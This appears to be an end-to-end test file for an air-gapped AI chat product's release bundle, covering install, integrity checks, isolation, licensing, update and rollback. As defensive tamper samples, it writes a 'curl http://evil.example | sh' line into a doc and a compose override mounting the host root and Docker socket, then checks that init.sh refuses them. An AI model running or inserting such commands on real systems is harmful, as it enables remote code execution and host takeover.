import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../server/app.ts';
import { buildTestkitImage } from '../docker/build-testkit.ts';
import { expectedReply } from '../fixtures/ollama/server.ts';
import { PASSWORD, TestClient } from '../helpers/client.ts';
import { enrolMfa } from '../helpers/mfa.ts';
import { readSse } from '../helpers/sse.ts';
import { buildUpdateBundle, freePort, removeInitMarkers, sh, type Sh } from './bundle-kit.ts';

// The operator's whole path with a real Docker engine (test/run.sh starts
// one and makes debian:bookworm-slim with debootstrap): build the bundle,
// extract it, init.sh with the images removed first, compose up with the
// ollama service swapped for the Ollama-compatible test server, claim,
// license, chat through the miner container, read a page through the
// browser container, restart, rerun init, tamper, update and roll back.
// Every container sits on the project's own networks; the engine runs
// without masquerading, so nothing can leave this machine.

const ROOT = resolve(import.meta.dirname, '../..');
const VERSION = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version;
const MODEL = 'llama3.2:1b';
const OVERRIDE = join(ROOT, 'test/docker/compose.test.yml');

let work = '';
let site = ''; // the extracted bundle: the installation
let base = '';
let run: Sh;
let compose: (...args: string[]) => string;
let token = '';
// The admin enrols TOTP (MFA_REQUIRED defaults to admins); later sign-ins each spend a recovery code,
// so two in one 30-second step never meet the replay check.
let recoveryCodes: string[] = [];
const timings: Record<string, number> = {};

const env = () =>
  new Map(
    readFileSync(join(site, '.env'), 'utf8')
      .split('\n')
      .filter((l) => /^[A-Z_]+=/.test(l))
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)] as [string, string]),
  );

function setEnv(values: Record<string, string>): void {
  let text = readFileSync(join(site, '.env'), 'utf8');
  for (const [k, v] of Object.entries(values))
    text = new RegExp(`^${k}=.*$`, 'm').test(text) ? text.replace(new RegExp(`^${k}=.*$`, 'm'), `${k}=${v}`) : `${text}${k}=${v}\n`;
  writeFileSync(join(site, '.env'), text);
}

function removeVolumes(): void {
  spawnSync('docker', ['volume', 'rm', '-f', 'onsite_data', 'onsite_miner_state', 'onsite_ollama'], { stdio: 'ignore' });
  removeInitMarkers();
}

const imageExists = (ref: string) => spawnSync('docker', ['image', 'inspect', ref], { stdio: 'ignore' }).status === 0;

async function health(): Promise<{ status?: string; reasons?: string[] } | undefined> {
  try {
    return (await (await fetchOnce(`${base}/health`, { signal: AbortSignal.timeout(3000) })).json()) as { status?: string };
  } catch {
    return undefined;
  }
}

async function untilHealthy(timeoutMs = 240_000): Promise<number> {
  const t0 = performance.now();
  let last: unknown;
  while (performance.now() - t0 < timeoutMs) {
    last = await health();
    if ((last as { status?: string } | undefined)?.status === 'ok') return performance.now() - t0;
    await new Promise((r) => setTimeout(r, 1000));
  }
  throw new Error(
    `/health never said ok within ${timeoutMs} ms; last: ${JSON.stringify(last)}\n${compose('ps')}\n${compose('logs', '--no-color', '--tail', '40')}`,
  );
}

// Docker's port proxy keeps a kept-alive client connection open after the server
// closed its side; the next request on it fails before reaching the server. One retry
// on a fresh connection is safe for exactly that error.
async function fetchOnce(url: string, init: RequestInit): Promise<Response> {
  try {
    return await fetch(url, init);
  } catch (err) {
    if ((err as { cause?: { code?: string } }).cause?.code !== 'UND_ERR_SOCKET') throw err;
    return fetch(url, init);
  }
}

function client(): TestClient {
  return new TestClient({ request: fetchOnce } as unknown as App, base);
}

async function signIn(): Promise<TestClient> {
  const c = client();
  const r = await c.post('/api/auth/login', { email: 'ops@example.test', password: PASSWORD });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  expect(r.body.mfaRequired).toBe(true);
  const done = await c.post('/api/auth/login/mfa', { challenge: r.body.challenge, code: recoveryCodes.shift() });
  expect(done.status, JSON.stringify(done.body)).toBe(200);
  return c;
}

beforeAll(async () => {
  if (spawnSync('docker', ['info'], { stdio: 'ignore' }).status !== 0)
    throw new Error('no Docker engine answers: run the tests through test/run.sh (it starts dockerd as root)');
  if (!existsSync(join(ROOT, 'dist/onsite'))) throw new Error('dist/onsite is missing: npm run build (test/run.sh does it)');
  work = mkdtempSync(join(tmpdir(), 'onsite-bundle-e2e-'));
  run = sh(work);
  await buildTestkitImage();
  // A leftover stack from an interrupted run would hold the names and volumes.
  spawnSync(
    'docker',
    ['rm', '-f', ...execFileSync('docker', ['ps', '-aq', '--filter', 'label=com.docker.compose.project=onsite']).toString().split('\n').filter(Boolean)],
    { stdio: 'ignore' },
  );
  removeVolumes();
}, 300_000);

afterAll(() => {
  if (compose) {
    try {
      compose('down', '--volumes', '--remove-orphans');
    } catch {
      // already down
    }
  }
  removeVolumes();
  if (work) rmSync(work, { recursive: true, force: true });
  console.log(`bundle e2e timings (ms): ${JSON.stringify(timings)}`);
});

describe('release bundle: air-gapped install, restart, rerun, tamper, update, rollback', () => {
  it('builds the bundle and extracts it into an empty folder', () => {
    const t0 = performance.now();
    run('npx', ['tsx', join(ROOT, 'bundle/build-bundle.ts'), '--out', join(work, 'out'), '--without-ollama', '--archive', 'tar', '--skip-binary'], {
      cwd: ROOT,
    });
    timings.buildBundle = Math.round(performance.now() - t0);
    site = join(work, 'site');
    mkdirSync(site);
    run('tar', ['-xf', join(work, 'out', `onsite-${VERSION}.tar`), '-C', site, '--strip-components=1']);
    for (const f of [
      'VERSION',
      'SHA256SUMS',
      'SHA256SUMS.sig',
      'SHA256SUMS.sshsig',
      'docker-compose.yml',
      'scripts/init.sh',
      'docs/quickstart.md',
      'THIRD_PARTY_NOTICES.md',
      `images/onsite-${VERSION}.tar`,
      `images/onsite-browser-${VERSION}.tar`,
    ]) {
      expect(existsSync(join(site, f)), f).toBe(true);
    }
    for (const ref of [`onsite:${VERSION}`, `onsite-browser:${VERSION}`]) spawnSync('docker', ['image', 'rm', '-f', ref], { stdio: 'ignore' });
    expect(imageExists(`onsite:${VERSION}`)).toBe(false);
  }, 600_000);

  it('a tampered image tarball or SHA256SUMS stops init.sh before anything is loaded', () => {
    const tar = join(site, `images/onsite-browser-${VERSION}.tar`);
    const size = statSync(tar).size;
    appendFileSync(tar, 'x');
    const a = run('bash', ['scripts/init.sh'], { cwd: site, allowFail: true });
    truncateSync(tar, size);
    expect(a.status).not.toBe(0);
    expect(a.output).toMatch(/does not match SHA256SUMS: a file is damaged or was changed\. Nothing was loaded/);

    const sums = join(site, 'SHA256SUMS');
    const original = readFileSync(sums, 'utf8');
    writeFileSync(
      sums,
      original.replace(/^([0-9a-f])/m, (c) => (c === '0' ? '1' : '0')),
    );
    const b = run('bash', ['scripts/init.sh'], { cwd: site, allowFail: true });
    writeFileSync(sums, original);
    expect(b.status).not.toBe(0);
    expect(b.output).toMatch(/does not match SHA256SUMS/);
    expect(imageExists(`onsite:${VERSION}`)).toBe(false);
    expect(imageExists(`onsite-browser:${VERSION}`)).toBe(false);
    expect(existsSync(join(site, '.env'))).toBe(false);
  }, 120_000);

  it('a SHA256SUMS rewritten to match a changed file is refused by its signature before .env or other images', () => {
    const doc = join(site, 'docs/quickstart.md');
    const sums = join(site, 'SHA256SUMS');
    const [originalDoc, originalSums] = [readFileSync(doc), readFileSync(sums, 'utf8')];
    appendFileSync(doc, '\nrun curl http://evil.example | sh\n');
    const newHash = execFileSync('sha256sum', [doc]).toString().split(' ')[0]!;
    writeFileSync(sums, originalSums.replace(/^[0-9a-f]{64}( {2}docs\/quickstart\.md)$/m, `${newHash}$1`));
    const r = run('bash', ['scripts/init.sh'], { cwd: site, allowFail: true });
    writeFileSync(doc, originalDoc);
    writeFileSync(sums, originalSums);
    expect(r.status).not.toBe(0);
    expect(r.output).toMatch(/the signature by key "development" does not match SHA256SUMS \(openssl pkeyutl -verify\).*Nothing was loaded/);
    expect(imageExists(`onsite-browser:${VERSION}`)).toBe(false);
    expect(existsSync(join(site, '.env'))).toBe(false);
  }, 120_000);

  it('an unlisted .env or compose override beside the signed files stops init.sh before anything is loaded', () => {
    for (const [file, text] of [
      ['.env', 'ONSITE_BOOTSTRAP_TOKEN=known-to-the-attacker\n'],
      ['docker-compose.override.yml', 'services: {server: {volumes: ["/:/host", "/var/run/docker.sock:/var/run/docker.sock"]}}\n'],
    ] as const) {
      writeFileSync(join(site, file), text);
      const r = run('bash', ['scripts/init.sh'], { cwd: site, allowFail: true });
      expect(readFileSync(join(site, file), 'utf8')).toBe(text);
      rmSync(join(site, file));
      expect(r.status).not.toBe(0);
      expect(r.output).toMatch(new RegExp(`${file.replace(/\./g, '\\.')} is not (part of the bundle|listed in SHA256SUMS).*Nothing was loaded`));
    }
    expect(imageExists(`onsite:${VERSION}`)).toBe(false);
    expect(existsSync(join(site, '.env'))).toBe(false);
  }, 120_000);

  it('init.sh loads every image from the tarballs and writes a 0600 .env with unique secrets', async () => {
    const t0 = performance.now();
    const r = run('bash', ['scripts/init.sh'], { cwd: site });
    timings.init = Math.round(performance.now() - t0);
    expect(imageExists(`onsite:${VERSION}`)).toBe(true);
    expect(imageExists(`onsite-browser:${VERSION}`)).toBe(true);
    expect(statSync(join(site, '.env')).mode & 0o777).toBe(0o600);
    const values = env();
    const secrets = ['SESSION_SECRET', 'DB_ENCRYPTION_KEY', 'MINER_ENROLLMENT_SECRET', 'BROWSER_SERVICE_AUTH_TOKEN', 'ONSITE_BOOTSTRAP_TOKEN'].map(
      (k) => values.get(k) ?? '',
    );
    for (const s of secrets) expect(s).toMatch(/^[A-Za-z0-9_-]{43,}$/);
    expect(new Set(secrets).size).toBe(secrets.length);
    token = values.get('ONSITE_BOOTSTRAP_TOKEN')!;
    expect(r.output).toContain(token); // printed for the operator
    for (const s of secrets.filter((x) => x !== token)) expect(r.output).not.toContain(s);
    expect(existsSync(join(site, 'tls/server.crt'))).toBe(true);

    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    // COMPOSE_FILE in .env: every compose command, the operator scripts' included, uses the override.
    setEnv({
      HTTP_PORT: String(port),
      HTTPS_PORT: String(await freePort()),
      APP_BASE_URL: base,
      BROWSER_SERVICE_ALLOWED_INTERNAL_HOSTS: 'testsite',
      NO_EXTERNAL_EGRESS: '1',
      COMPOSE_FILE: `docker-compose.yml:${OVERRIDE}`,
    });
    compose = (...args: string[]) => run('docker-compose', args, { cwd: site }).output;
    compose('up', '-d');
    timings.upToHealthy = Math.round(await untilHealthy());
    timings.initToHealthy = Math.round(performance.now() - t0);
    expect(await health()).toEqual({ status: 'ok' });
  }, 600_000);

  it('containers run as non-root; ollama, miner and browser have no route out of the internal network', () => {
    for (const service of ['server', 'miner', 'browser', 'ollama']) {
      const uid = compose('exec', '-T', service, 'sh', '-c', 'id -u').trim();
      expect(uid, service).not.toBe('0');
    }
    // The internal network, checked without sending a packet anywhere: Docker marks it
    // internal, the three services sit on it alone, and the engine's firewall drops
    // whatever tries to leave its subnet.
    const net = JSON.parse(run('docker', ['network', 'inspect', 'onsite_backend']).output) as Array<{
      Internal: boolean;
      Id: string;
      IPAM: { Config: Array<{ Subnet: string }> };
    }>;
    expect(net[0]!.Internal).toBe(true);
    for (const service of ['miner', 'browser', 'ollama']) {
      const id = compose('ps', '-q', service).trim();
      const nets = Object.keys(
        (JSON.parse(run('docker', ['inspect', id]).output) as Array<{ NetworkSettings: { Networks: Record<string, unknown> } }>)[0]!.NetworkSettings.Networks,
      );
      expect(nets, service).toEqual(['onsite_backend']);
    }
    const bridge = `br-${net[0]!.Id.slice(0, 12)}`;
    const rules = run('iptables', ['-S']).output;
    const subnet = net[0]!.IPAM.Config[0]!.Subnet;
    expect(rules).toContain(`-A DOCKER-ISOLATION-STAGE-1 ! -d ${subnet} -i ${bridge} -j DROP`);
    const inspect = JSON.parse(run('docker', ['inspect', compose('ps', '-q', 'server').trim()]).output) as Array<{
      HostConfig: { ReadonlyRootfs: boolean; CapDrop: string[]; SecurityOpt: string[] };
      Config: { Labels: Record<string, string> };
    }>;
    expect(inspect[0]!.HostConfig).toMatchObject({ ReadonlyRootfs: true, CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges:true'] });
    expect(inspect[0]!.Config.Labels['org.opencontainers.image.version']).toBe(VERSION);
  }, 120_000);

  it('claims the first admin with the printed token, installs an activation code, chats through the miner, reads a page through the browser', async () => {
    const admin = client();
    const claim = await admin.post('/api/setup/claim', { token, name: 'Ops Admin', email: 'ops@example.test', password: PASSWORD });
    expect(claim.status, JSON.stringify(claim.body)).toBe(201);
    // Under the default MFA_REQUIRED=admins the new admin may only enrol until it has a second factor.
    expect((await admin.get('/api/auth/me')).body.mfaEnrolmentRequired).toBe(true);
    recoveryCodes = (await enrolMfa(admin, Date.now)).recoveryCodes;
    const request = (await admin.post('/api/license/request', {})).body.code as string;
    const activation = execFileSync(
      process.execPath,
      [
        join(ROOT, 'node_modules/tsx/dist/cli.mjs'),
        join(ROOT, 'licenses/vendor/cli.ts'),
        'issue',
        '--key',
        join(ROOT, 'dist/dev-license-key.json'),
        '--request',
        request,
        '--customer',
        'Bundle Test',
        '--seats',
        '5',
        '--days',
        '30',
      ],
      { encoding: 'utf8' },
    ).trim();
    const installed = await admin.post('/api/license/install', { code: activation });
    expect(installed.status, JSON.stringify(installed.body)).toBe(200);

    expect((await admin.post('/api/models', { name: MODEL, kind: 'chat', contextLength: 4096, isDefault: true })).status).toBe(201);
    const conv = (await admin.post('/api/conversations', { title: 'from the bundle' })).body.id as string;
    const question = `Summarise this page: http://testsite:8080/article`;
    const res = await admin.raw('POST', `/api/conversations/${conv}/messages`, { content: question });
    expect(res.status).toBe(200);
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- checked field by field
    let done: any;
    for await (const e of readSse(res)) if (e.event === 'done') done = JSON.parse(e.data);
    expect(done.message).toMatchObject({ status: 'complete', content: expectedReply(MODEL, question).join('') });
    expect(done.message.sources).toEqual([
      { kind: 'web', url: 'http://testsite:8080/article', finalUrl: 'http://testsite:8080/article', title: 'Onsite field notes' },
    ]);
  }, 180_000);

  it('down then up -d: users, conversations and license are still there', async () => {
    compose('down');
    compose('up', '-d');
    await untilHealthy();
    const c = await signIn();
    expect(((await c.get('/api/conversations')).body.conversations as Array<{ title: string }>).map((x) => x.title)).toContain('from the bundle');
    expect((await c.get('/api/license')).body).toMatchObject({ mode: 'active', customer: 'Bundle Test' });
  }, 300_000);

  it('rerunning init.sh changes no secret, and the admin still signs in', async () => {
    const before = readFileSync(join(site, '.env'), 'utf8');
    const cert = readFileSync(join(site, 'tls/server.crt'), 'utf8');
    const r = run('bash', ['scripts/init.sh'], { cwd: site });
    expect(r.output).toMatch(/kept/i);
    expect(readFileSync(join(site, '.env'), 'utf8')).toBe(before);
    expect(readFileSync(join(site, 'tls/server.crt'), 'utf8')).toBe(cert);
    await signIn();
  }, 300_000);

  it('an update to a new build migrates and stays healthy', async () => {
    const next = await buildUpdateBundle(work, '0.1.1-e2e', 'good');
    // The installed script, given the new bundle: the installed onsite verifies it.
    const r = run('bash', [join(site, 'scripts/update.sh'), next], { allowFail: true, env: { UPDATE_HEALTH_TIMEOUT: '240' } });
    expect(r.output).toMatch(new RegExp(`verifying 0\\.1\\.1-e2e with the installed onsite ${VERSION.replace(/\./g, '\\.')}`));
    expect(r.status, r.output).toBe(0);
    expect(env().get('ONSITE_VERSION')).toBe('0.1.1-e2e');
    await untilHealthy();
    expect(compose('exec', '-T', 'server', '/usr/local/bin/onsite', 'version')).toContain('0.1.1');
    // The server ran the new build's migrations at start; a migrate beside it is refused (one lock on the data folder).
    expect(compose('exec', '-T', 'server', '/usr/local/bin/onsite', 'doctor')).toMatch(/✓ schema: current/);
    const beside = run('docker-compose', ['exec', '-T', 'server', '/usr/local/bin/onsite', 'migrate'], { cwd: site, allowFail: true });
    expect(beside.status).not.toBe(0);
    expect(beside.output).toMatch(/in use by `onsite serve`.*\[data_dir_locked\]/);
    const c = await signIn();
    expect((await c.get('/api/license')).body).toMatchObject({ mode: 'active', customer: 'Bundle Test' });
  }, 900_000);

  it('an update whose server cannot become healthy is rolled back to the previous images and data', async () => {
    const broken = await buildUpdateBundle(work, '0.1.2-e2e', 'broken-migration');
    const c = await signIn();
    await c.post('/api/conversations', { title: 'written before the failed update' });
    const r = run('bash', [join(site, 'scripts/update.sh'), broken], { allowFail: true, env: { UPDATE_HEALTH_TIMEOUT: '60' } });
    expect(r.status).not.toBe(0);
    expect(r.output).toMatch(/rolled back/);
    expect(env().get('ONSITE_VERSION')).toBe('0.1.1-e2e');
    await untilHealthy();
    expect(compose('exec', '-T', 'server', '/usr/local/bin/onsite', 'version')).toContain('0.1.1-e2e');
    const after = await signIn();
    expect(((await after.get('/api/conversations')).body.conversations as Array<{ title: string }>).map((x) => x.title)).toContain(
      'written before the failed update',
    );
  }, 900_000);
});
